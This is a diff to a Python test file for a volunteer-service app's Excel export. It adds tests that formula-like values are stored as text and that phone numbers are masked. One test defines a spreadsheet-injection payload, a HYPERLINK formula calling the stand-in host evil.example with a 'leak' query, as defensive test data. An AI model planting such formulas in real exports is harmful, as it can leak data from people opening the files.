@@ -201,7 +201,7 @@ def test_export_is_an_excel_file_with_members_and_records(client, teams):
     response = client.get(url(teams["a"], "export.xlsx"))
     assert response.status_code == 200
     assert "spreadsheetml" in response["Content-Type"]
-    workbook = load_workbook(BytesIO(response.content))
+    workbook = load_workbook(BytesIO(b"".join(response.streaming_content)))
     members, records = workbook.worksheets
     values = [cell for row in members.iter_rows(values_only=True) for cell in row]
     assert "示例甲队员" in values and 2.0 in values
@@ -364,3 +364,34 @@ def test_a_drill_logged_for_the_team_leaves_the_coordinators_own_record_waiting(
     statuses = dict(ServiceRecord.objects.values_list("volunteer", "status"))
     assert statuses == {teams["vol_a"].pk: Status.VERIFIED, lead.pk: Status.SUBMITTED}
     assert ServiceRecord.objects.get(volunteer=lead).verified_by is None
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak","点我")'
+
+
+def test_a_description_like_a_formula_is_text_in_the_team_export(client, teams):
+    record(teams["vol_a"], teams["a"], description=HOSTILE, place="@SUM(A1)")
+    named = volunteer_in(teams["a"], name="+1+1\x07")
+    record(named, teams["a"])
+    client.force_login(teams["lead_a"])
+    response = client.get(url(teams["a"], "export.xlsx"))
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content)
+    cells = [cell for sheet in load_workbook(BytesIO(content)) for row in sheet for cell in row]
+    by_value = {cell.value: cell for cell in cells}
+    for text in (HOSTILE, "@SUM(A1)", "+1+1"):
+        assert by_value[text].data_type == "s"
+    assert not any(cell.data_type == "f" for cell in cells)
+
+
+def test_a_phone_used_as_login_name_is_masked_in_the_team_export(client, teams):
+    nameless = volunteer_in(teams["a"], name="", username="13812340002", phone="13812340002")
+    record(nameless, teams["a"])
+    client.force_login(teams["district_lead"])
+    response = client.get(url(teams["a"], "export.xlsx"))
+    content = b"".join(response.streaming_content)
+    values = [
+        cell.value for sheet in load_workbook(BytesIO(content)) for row in sheet for cell in row
+    ]
+    assert "138****0002" in values
+    assert "13812340002" not in values
